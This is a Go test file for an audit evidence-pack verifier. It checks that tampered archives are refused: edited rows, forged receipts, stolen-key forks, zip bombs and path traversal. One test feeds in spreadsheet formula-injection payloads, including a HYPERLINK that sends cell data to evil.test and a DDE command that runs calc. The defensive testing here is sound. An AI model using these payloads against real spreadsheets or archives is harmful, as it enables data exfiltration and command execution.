package pack_test

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/mod/sumdb/note"

	"sallyport/audit/event"
	"sallyport/evidence/pack"
	"sallyport/internal/history"
)

// refused wants a verdict that fails, by this check among others.
func (w *world) refused(archive []byte, o pack.Options, check, detail string) {
	w.T.Helper()
	v := w.verifyWith(archive, o)
	if v.OK {
		w.T.Errorf("it is verified")
		return
	}
	for _, c := range v.Checks {
		if c.Name == check && !c.OK && strings.Contains(c.Detail, detail) {
			return
		}
	}
	w.T.Errorf("%s does not say %q but:\n%s", check, detail, failed(v))
}

// line edits one line of a file, from 0.
func line(n int, edit func(string) string) func([]byte) []byte {
	return func(text []byte) []byte {
		lines := strings.SplitAfter(string(text), "\n")
		lines[n] = edit(lines[n])
		return []byte(strings.Join(lines, ""))
	}
}

func flip(text []byte) []byte {
	out := slices.Clone(text)
	out[len(out)/2] ^= 1
	return out
}

// What somebody does to a pack on its way to the auditor, with no key, and with the
// manifest signed anew by a stolen one: the log betrays it in both cases.
func TestAttacksOnThePack(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	archive := w.write(w.order())
	w.mustVerify(archive)
	drop := func(string) string { return "" }
	for name, tt := range map[string]struct {
		forge         func([]byte) []byte
		check, detail string
	}{
		"an edited cell": {func(a []byte) []byte {
			return change(t, a, "populations/certificates.csv", line(1, func(s string) string { return strings.Replace(s, "db-1", "db-9", 1) }))
		}, "populations/certificates.csv", "in line 2"},
		"a dropped row": {func(a []byte) []byte { return change(t, a, "populations/decisions.csv", line(2, drop)) },
			"populations/decisions.csv", "in line 3"},
		"the last row dropped": {func(a []byte) []byte {
			return change(t, a, "populations/leavers.csv", func(b []byte) []byte { return b[:bytes.LastIndexByte(b[:len(b)-1], '\n')+1] })
		}, "populations/leavers.csv", "and the log goes on"},
		"a row more": {func(a []byte) []byte {
			return change(t, a, "populations/sessions.csv", func(b []byte) []byte { return append(slices.Clone(b), "1,2,3\n"...) })
		}, "populations/sessions.csv", "where the log says no more"},
		"an exception more": {func(a []byte) []byte {
			return change(t, a, "exceptions.csv", func(b []byte) []byte { return append(slices.Clone(b), "x\n"...) })
		}, "exceptions.csv", "no more"},
		"other samples": {func(a []byte) []byte { return change(t, a, "samples.csv", line(1, drop)) }, "samples.csv", "differs"},
		"a nicer page": {func(a []byte) []byte {
			return change(t, a, "README.html", func(b []byte) []byte { return bytes.Replace(b, []byte("Exceptions"), []byte("Excellence"), 1) })
		}, "README.html", "differs"},
		"another workbook": {func(a []byte) []byte { return change(t, a, "evidence.xlsx", flip) }, "evidence.xlsx", "differs"},
		"an edited entry":  {func(a []byte) []byte { return change(t, a, bundle(w), flip) }, "entries", "is not the one in the tree"},
		"an entry cut out": {func(a []byte) []byte { return change(t, a, bundle(w), cutEntry) }, "entries", "entries are missing"},
		"an edited tile":   {func(a []byte) []byte { return change(t, a, strings.Replace(bundle(w), "entries", "0", 1), flip) }, "entries", ""},
		"no entries":       {func(a []byte) []byte { return without(t, a, func(n string) bool { return n == bundle(w) }) }, "entries", "it is missing"},
		"no tile": {func(a []byte) []byte {
			return without(t, a, func(n string) bool { return strings.HasPrefix(n, "log/tile/0/") })
		}, "entries", ""},
		"no receipt": {func(a []byte) []byte { return without(t, a, func(n string) bool { return n == "proofs/7.tlog-proof" }) }, "receipts", "missing"},
		"another entry's receipt": {func(a []byte) []byte {
			return change(t, a, "proofs/7.tlog-proof", func([]byte) []byte { return []byte(file(t, a, "proofs/8.tlog-proof")) })
		}, "receipts", "another entry"},
		"an edited receipt": {func(a []byte) []byte {
			return change(t, a, "proofs/7.tlog-proof", line(2, func(s string) string { return string(s[0]^1) + s[1:] }))
		}, "receipts", ""},
		"an older checkpoint": {func(a []byte) []byte {
			return change(t, a, "log/checkpoint", func([]byte) []byte { return w.Checkpoint(20) })
		}, "checkpoint", "not the one that the manifest names"},
		"another start": {func(a []byte) []byte {
			return change(t, a, "log/start-checkpoint", func([]byte) []byte { return w.Checkpoint(3) })
		}, "start", "not the 0 of the manifest"},
		"an ID token less": {func(a []byte) []byte { return change(t, a, "evidence/id-tokens.jsonl", line(0, drop)) }, "exceptions.csv", ""},
		"another ID token": {func(a []byte) []byte {
			return change(t, a, "evidence/id-tokens.jsonl", line(0, func(s string) string { return strings.Replace(s, `"id_token":"e`, `"id_token":"f`, 1) }))
		}, "evidence", "not the one that the log names"},
		"another policy": {func(a []byte) []byte {
			return change(t, a, policyFile(t, a), func(b []byte) []byte { return bytes.Replace(b, []byte("count: 1"), []byte("count: 0"), 1) })
		}, "exceptions.csv", "and the log goes on"},
		"no policy":     {func(a []byte) []byte { return without(t, a, func(n string) bool { return n == policyFile(t, a) }) }, "exceptions.csv", ""},
		"another trust": {func(a []byte) []byte { return change(t, a, "log/trust-policy", flip) }, "", ""},
		"a file more that a pack could have": {func(a []byte) []byte { return with(t, a, "proofs/0000000.tlog-proof", []byte("x")) },
			"files", "nothing in the log needs it"},
		"a list more": {func(a []byte) []byte { return with(t, a, "populations/bribes.csv", []byte("x")) }, "files", "nothing in the log needs it"},
		"a tile more": {func(a []byte) []byte { return with(t, a, "log/tile/1/000.p/1", make([]byte, 32)) }, "files", "nothing in the log needs it"},
		"a policy more": {func(a []byte) []byte {
			return with(t, a, "evidence/policies/"+strings.Repeat("a", 64)+".yaml", []byte("x"))
		}, "files", "nothing in the log needs it"},
		"no list": {func(a []byte) []byte {
			return without(t, a, func(n string) bool { return n == "populations/alerts.csv" })
		}, "populations/alerts.csv", "missing"},
		"no exceptions":           {func(a []byte) []byte { return without(t, a, func(n string) bool { return n == "exceptions.csv" }) }, "exceptions.csv", "missing"},
		"a file elsewhere":        {func(a []byte) []byte { return with(t, a, "../../.ssh/authorized_keys", []byte("x")) }, "archive", "no pack has"},
		"a hidden folder":         {func(a []byte) []byte { return with(t, a, "populations/", nil) }, "archive", "no pack has"},
		"a name in other letters": {func(a []byte) []byte { return with(t, a, "readme.html", []byte("x")) }, "archive", "no pack has"},
		"a name with a backslash": {func(a []byte) []byte { return with(t, a, `populations\x.csv`, []byte("x")) }, "archive", "no pack has"},
		"a file twice":            {func(a []byte) []byte { return with(t, a, "exceptions.csv", []byte("x")) }, "archive", "twice"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			forged := tt.forge(archive)
			if tt.check != "" {
				w.refused(forged, pack.Options{}, tt.check, tt.detail)
			} else {
				w.refused(forged, pack.Options{}, "files", "")
			}
			if tt.check == "archive" || tt.check == "" {
				return
			}
			w.refused(resign(t, forged, w.Signer), pack.Options{}, tt.check, tt.detail)
		})
	}
}

func bundle(w *world) string { return fmt.Sprintf("log/tile/entries/000.p/%d", len(w.Leaves)) }

// cutEntry makes an entry one that is missing.
func cutEntry(b []byte) []byte {
	n := int(binary.BigEndian.Uint16(b))
	m := 2 + n + 2 + int(binary.BigEndian.Uint16(b[2+n:]))
	return slices.Concat(b[:2+n], []byte{0, 0}, b[m:])
}

func policyFile(t *testing.T, archive []byte) string {
	for _, m := range unpack(t, archive) {
		if strings.HasPrefix(m.name, "evidence/policies/") {
			return m.name
		}
	}
	t.Fatal("no policy")
	return ""
}

func TestAttackManifestSignedWithAnotherKey(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	archive := w.write(w.order())
	_, secret := newKey(t, "sallyport.test/log")
	w.refused(resign(t, archive, secret), pack.Options{}, "manifest", "not signed by the key")
}

func newKey(t testing.TB, name string) (public string, signer note.Signer) {
	t.Helper()
	private, public, err := note.GenerateKey(nil, name)
	must(t, err)
	signer, err = note.NewSigner(private)
	must(t, err)
	return public, signer
}

// Whoever stole the log's key can write a whole other log, and a pack of it. Nothing
// in that is wrong by itself; the checkpoint that the auditor kept is not of it.
func TestAttackForkedLogWithAStolenKey(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	kept := w.Checkpoint(int64(len(w.Leaves)) - 7)
	o := w.order()
	w.mustVerify(w.write(o))
	if v := w.verifyWith(w.write(o), pack.Options{Previous: kept}); !v.OK {
		t.Fatalf("an honest log does not go on: %s", failed(v))
	}

	other := newWorld(t)
	other.Signer, other.Key = w.Signer, w.Key
	other.ordinary()
	other.Access(other.erin, other.liam, "databases", "db-1")
	fork := other.write(other.order())
	w.mustVerify(fork)
	w.refused(fork, pack.Options{Previous: kept}, "previous", "FORK")
}

// A database that was put back to an older state gives a pack that is older than the
// auditor's checkpoint.
func TestAttackOlderState(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	older := w.write(w.order())
	w.Broker(event.KeysLoaded{})
	w.refused(older, pack.Options{Previous: w.Checkpoint(int64(len(w.Leaves)))}, "previous", "ask for a newer pack")
	w.refused(older, pack.Options{Previous: []byte("no checkpoint")}, "previous", "not signed")
}

// What a superuser does to entries behind the log's back, before the pack is made.
func TestAttackOnEntriesInTheDatabase(t *testing.T) {
	t.Parallel()
	for name, forge := range map[string]func(w *world){
		"an edited entry":  func(w *world) { w.Leaves[5] = bytes.Replace(w.Leaves[5], []byte("Erin"), []byte("Eric"), 1) },
		"a deleted entry":  func(w *world) { w.Leaves[5] = nil },
		"entries swapped":  func(w *world) { w.Leaves[5], w.Leaves[6] = w.Leaves[6], w.Leaves[5] },
		"the tail deleted": func(w *world) { w.Leaves[len(w.Leaves)-2] = nil },
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			w.ordinary()
			o := w.order()
			w.Seal()
			forge(w)
			archive := w.write(o)
			w.refused(archive, pack.Options{}, "entries", "missing")
			v := w.verify(archive)
			if v.Exceptions["log-gap"] == 0 || len(v.Checks) < 20 {
				t.Errorf("the gap is no exception: %v", v.Exceptions)
			}
			for _, c := range v.Checks {
				if !c.OK && c.Name != "entries" {
					t.Errorf("%s: %s", c.Name, c.Detail)
				}
			}
		})
	}
}

// What a pack is of is in the database, until it is made; what was asked for is in
// the log.
func TestAttackAnotherPackThanWasAskedFor(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	for name, forge := range map[string]func(o *pack.Order){
		"a shorter period": func(o *pack.Order) { o.Params.Period.To = o.Params.Period.To.Add(-time.Hour) },
		"a later start":    func(o *pack.Order) { o.Params.Period.From = o.Params.Period.From.Add(time.Second) },
		"fewer criteria":   func(o *pack.Order) { o.Params.Controls = []string{"CC6.1"} },
		"another seed":     func(o *pack.Order) { o.Params.Seed = "2" },
		"a seed of the broker's": func(o *pack.Order) {
			o.Params.Seed, o.Params.SeedBy = w.Tree(int64(len(w.Leaves))).Hash.String(), pack.SeedByLog
		},
		"another auditor": func(o *pack.Order) { o.MadeBy.ID = "per-000000000001" },
		"another pack":    func(o *pack.Order) { o.ID = "pack-999" },
	} {
		t.Run(name, func(t *testing.T) {
			o := w.order()
			forge(&o)
			if _, err := pack.Write(t.Context(), io.Discard, o, source{w.History}); !errors.Is(err, pack.ErrNotAsked) {
				t.Errorf("it says %v", err)
			}
		})
	}
}

// Who wrote the manifest himself is told by a verifier.
func TestAttackManifestOfAnotherPeriod(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	archive := w.write(w.order())
	forged := change(t, archive, "manifest.json", func(b []byte) []byte {
		return bytes.Replace(b, []byte(`"seed": "1"`), []byte(`"seed": "2"`), 1)
	})
	w.refused(resign(t, forged, w.Signer), pack.Options{}, "request", "with another seed")
}

// A seed that nobody gave is the log's root, and no other that suits the broker.
func TestSeedOfTheLog(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	o := w.ask(event.PackRequested{From: history.Start, To: w.Now, Controls: []string{}})
	if v := w.mustVerify(w.write(o)); v.Manifest.Seed != v.Manifest.Log.Root || v.Manifest.SeedBy != pack.SeedByLog {
		t.Errorf("the seed is %q, by %s", v.Manifest.Seed, v.Manifest.SeedBy)
	}
	o.Params.Seed = "suits me"
	if _, err := pack.Write(t.Context(), io.Discard, o, source{w.History}); !errors.Is(err, pack.ErrNotAsked) {
		t.Errorf("it says %v", err)
	}
}

// The stored hashes, too, are in the database.
func TestAttackOnHashesInTheDatabase(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	o := w.order()
	var b bytes.Buffer
	_, err := pack.Write(t.Context(), &b, o, forgedHashes{source{w.History}})
	if err == nil || !strings.Contains(err.Error(), pack.ErrTree.Error()) {
		t.Errorf("it says %v", err)
	}
}

func TestZipHygiene(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	archive := w.write(w.order())
	z, err := zip.NewReader(bytes.NewReader(archive), int64(len(archive)))
	must(t, err)
	at := func(name string) int64 {
		for _, f := range z.File {
			if f.Name == name {
				offset, err := f.DataOffset()
				must(t, err)
				return offset
			}
		}
		t.Fatalf("no %s", name)
		return 0
	}
	edit := func(f func(b []byte)) []byte {
		b := slices.Clone(archive)
		f(b)
		return b
	}
	readme := at("README.html")
	for name, tt := range map[string]struct {
		archive []byte
		detail  string
	}{
		"nothing":                         {nil, "no zip"},
		"text":                            {[]byte("hello"), "no zip"},
		"cut off":                         {archive[:len(archive)-100], "no zip"},
		"cut in half":                     {archive[:len(archive)/2], "no zip"},
		"something before":                {append([]byte("#!/bin/sh\n"), archive...), "laid out"},
		"another name outside":            {edit(func(b []byte) { copy(b[readme-int64(len("README.html")):], "readme.html") }), "laid out"},
		"other flags":                     {edit(func(b []byte) { b[readme-int64(len("README.html"))-24] |= 8 }), "laid out"},
		"another length outside":          {edit(func(b []byte) { b[readme-int64(len("README.html"))-8]++ }), "laid out"},
		"packed again by another program": {zipped(t, archive), "laid out"},
	} {
		t.Run(name, func(t *testing.T) {
			w.refused(tt.archive, pack.Options{}, "archive", tt.detail)
		})
	}
	// Something between two files, with the directory moved on.
	members := unpack(t, archive)
	if v := w.verify(append(repack(t, members), 0)); v.OK {
		t.Error("something follows the archive")
	}
}

// zipped is an archive as most programs write it.
func zipped(t *testing.T, archive []byte) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, m := range unpack(t, archive) {
		f, err := z.Create(m.name)
		must(t, err)
		_, err = f.Write(m.text)
		must(t, err)
	}
	must(t, z.Close())
	return b.Bytes()
}

func TestAttackZipBomb(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.ordinary()
	archive := w.write(w.order())
	zeros := make([]byte, 80<<20)
	began := time.Now()
	w.refused(change(t, archive, "populations/alerts.csv", func([]byte) []byte { return zeros }), pack.Options{}, "archive", "times what it has packed")
	for _, name := range []string{bundle(w), "manifest.json", "log/checkpoint", "proofs/3.tlog-proof", policyFile(t, archive)} {
		w.refused(change(t, archive, name, func([]byte) []byte { return zeros[:20<<20] }), pack.Options{}, "archive", "more than")
	}
	// Below the limits, what is compared is not read further than to the difference.
	w.refused(change(t, archive, "populations/alerts.csv", func(b []byte) []byte { return append(slices.Clone(b), zeros[:8<<20]...) }), pack.Options{},
		"populations/alerts.csv", "where the log says no more")
	w.refused(change(t, archive, "evidence/id-tokens.jsonl", func([]byte) []byte { return zeros[:8<<20] }), pack.Options{}, "evidence", "only form")
	t.Log(time.Since(began))
}

// Text that a spreadsheet takes for a formula, in what people write.
func TestAttackFormulaInAReason(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	for _, evil := range []string{`=HYPERLINK("http://evil.test/?"&A1,"ok")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "fine\n=1+1", "fine;=1+1", " =1+1", "＝1+1"} {
		terms := w.Terms(w.erin, "databases", "db-1")
		terms.Reason = evil
		w.Ask(w.erin, terms)
	}
	w.Now = w.Now.Add(time.Hour)
	w.Broker(event.KeysLoaded{})
	archive := w.write(w.order())
	w.mustVerify(archive)
	for _, row := range rows(t, archive, "populations/access_requests.csv") {
		if reason := row["reason"]; !strings.Contains(reason, "'") {
			t.Errorf("not neutral: %q", reason)
		}
	}
	for _, m := range unpack(t, []byte(file(t, archive, "evidence.xlsx"))) {
		if strings.HasPrefix(m.name, "xl/worksheets/") && (bytes.Contains(m.text, []byte("<f>")) || bytes.Contains(m.text, []byte("<v>"))) {
			t.Errorf("%s has something to calculate", m.name)
		}
	}
}
